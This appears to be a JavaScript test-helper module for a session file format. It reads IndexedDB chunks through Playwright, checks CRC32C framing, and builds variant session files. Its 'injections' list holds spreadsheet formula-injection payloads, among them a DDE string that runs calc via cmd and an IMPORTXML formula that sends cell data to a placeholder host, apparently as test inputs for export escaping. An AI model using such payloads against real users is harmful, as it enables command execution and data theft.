// Session files (docs/formats/session.md): the golden one with other words in it, those that a page has stored, and their parts.

import { execFileSync } from 'node:child_process';
import { createHash } from 'node:crypto';
import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { inflateRawSync } from 'node:zlib';

/** What the second reader makes of a file (docs/formats/session.md). @param {string} path @returns {any[]} its sessions */
export const secondReading = (path) =>
    JSON.parse(execFileSync('/usr/bin/python3', [fileURLToPath(new URL('../differential/second_reader.py', import.meta.url)), path], { encoding: 'utf8', maxBuffer: 1 << 28 })).sessions;

/** All that is stored of sessions, as a session file. @param {import('playwright-core').Page} page @returns {Promise<Buffer>} */
export async function sessionFile(page) {
    const bytes = await page.evaluate(() => new Promise((resolve) => {
        indexedDB.open('ensaio', 1).onsuccess = (event) => {
            const database = /** @type {any} */ (event.target).result;
            database.transaction('chunks').objectStore('chunks').getAll(IDBKeyRange.lowerBound([])).onsuccess = (/** @type {any} */ { target }) => {
                database.close();
                resolve(target.result.flatMap((/** @type {Uint8Array} */ chunk) => [...chunk]));
            };
        };
    }));
    return Buffer.from([...Buffer.from('ENSAIO1\n'), .../** @type {number[]} */ (bytes)]);
}

export const golden = fileURLToPath(new URL('../data/golden/session-1.ensaio', import.meta.url));

/** Texts that a spreadsheet might run. */
export const injections = ['=cmd|\' /C calc\'!A0', '=HYPERLINK("http://exemplo.invalid";"clique")', '+1+1', '-2+3', '@SUM(A1)', '\t=1+1', '=IMPORTXML("http://exemplo.invalid/"&A1;"//a")', '{=1}', '"=1"', '<b>&amp;'];

/** @param {Buffer} bytes */
function crc32c(bytes) {
    let crc = 0xffffffff;
    for (const byte of bytes) {
        crc ^= byte;
        for (let bit = 0; bit < 8; ++bit) crc = (crc >>> 1) ^ (crc & 1 ? 0x82f63b78 : 0);
    }
    return (crc ^ 0xffffffff) >>> 0;
}

/** @param {Buffer} chunk all of a chunk but its checksum and with any length @param {Buffer} payload */
function framed(chunk, payload) {
    const bytes = Buffer.concat([chunk.subarray(0, 30), payload, Buffer.alloc(4)]);
    bytes.writeUInt32LE(payload.length, 26);
    bytes.writeUInt32LE(crc32c(bytes.subarray(0, -4)), bytes.length - 4);
    return bytes;
}

/** @param {Buffer} bytes of chunks, one behind the other @returns {Buffer[]} */
export function chunksOf(bytes) {
    const chunks = [];
    for (let at = 0, end = 0; at < bytes.length; at = end) {
        end = at + 34 + bytes.readUInt32LE(at + 26);
        chunks.push(bytes.subarray(at, end));
    }
    return chunks;
}

/** Numbers as docs/formats/session.md writes them, read one after the other from `at` on. @param {Buffer} bytes */
export const varintsOf = (bytes) => ({
    at: 0,
    next() {
        let number = 0;
        for (let scale = 1; ; scale *= 0x80) {
            if (this.at >= bytes.length) throw new Error('a number is cut off');
            const byte = bytes[this.at++];
            number += (byte & 0x7f) * scale;
            if (byte < 0x80) return number;
        }
    },
});

const kindOfPack = 5;

/** A chunk as it was before it was packed; of one that is no pack itself. @param {Buffer} chunk @returns {Buffer[]} */
export function unpacked(chunk) {
    if (chunk[24] !== kindOfPack) return [chunk];
    const content = inflateRawSync(chunk.subarray(30, -4));
    const from = varintsOf(content), count = from.next();
    const kinds = content.subarray(from.at, from.at += count), codecs = content.subarray(from.at, from.at += count);
    return Array.from({ length: count }, () => from.next()).map((length, i) => {
        const head = Buffer.from(chunk.subarray(0, 30));
        head.writeUInt32LE(head.readUInt32LE(20) + i, 20);
        [head[24], head[25]] = [kinds[i], codecs[i]];
        return framed(Buffer.concat([head, Buffer.alloc(4)]), content.subarray(from.at, from.at += length));
    });
}

/** A session file with records behind it of which each looks at every answer when it is run again. @param {Buffer} file @param {number} count */
export function withPauses(file, count) {
    const head = Buffer.from(/** @type {Buffer} */ (chunksOf(file.subarray(8))[0]));
    head.writeUInt32LE(999, 20);
    [head[24], head[25]] = [4, 0];
    return Buffer.concat([file, framed(head, Buffer.from(Array.from({ length: count }, () => [0, 5]).flat()))]);
}

/** The golden session with another task title, participant and id. @param {string} title @param {string} participant @param {number} number @param {{started?: number, keepDays?: number, fields?: number}} [more] fields: more of them on its first screen with any */
export function sessionWith(title, participant, number, { started, keepDays, fields = 0 } = {}) {
    const file = readFileSync(golden);
    const chunks = chunksOf(file.subarray(8));
    const payload = (/** @type {Buffer} */ chunk) => chunk.subarray(30, -4);
    const header = JSON.parse(payload(/** @type {Buffer} */ (chunks[0])).toString());
    const study = JSON.parse(payload(/** @type {Buffer} */ (chunks[1])).toString());
    study.tasks[0].title = title;
    if (keepDays) study.keep_days = keepDays;
    const source = Buffer.from(JSON.stringify(study));
    const prototype = JSON.parse(payload(/** @type {Buffer} */ (chunks[2])).toString());
    const asks = prototype.screens.find((/** @type {{fields?: object[]}} */ screen) => screen.fields?.length);
    for (let i = 0; i < fields; ++i) asks.fields.push({ id: `mais_${i}`, kind: 'text', label: 'Mais', optional: true });
    const prototypeSource = fields > 0 ? Buffer.from(JSON.stringify(prototype)) : payload(/** @type {Buffer} */ (chunks[2]));
    header.prototype_hash = createHash('sha256').update(prototypeSource).digest('hex');
    header.id = number.toString(16).padStart(32, '0');
    header.participant = participant;
    if (started) header.started = started;
    header.study_hash = createHash('sha256').update(source).digest('hex');
    const made = chunks.map((chunk, i) => {
        const head = Buffer.from(chunk);
        Buffer.from(header.id, 'hex').copy(head, 4);
        return framed(head, i === 0 ? Buffer.from(JSON.stringify(header)) : i === 1 ? source : i === 2 ? prototypeSource : payload(chunk));
    });
    return Buffer.concat([file.subarray(0, 8), ...made]);
}
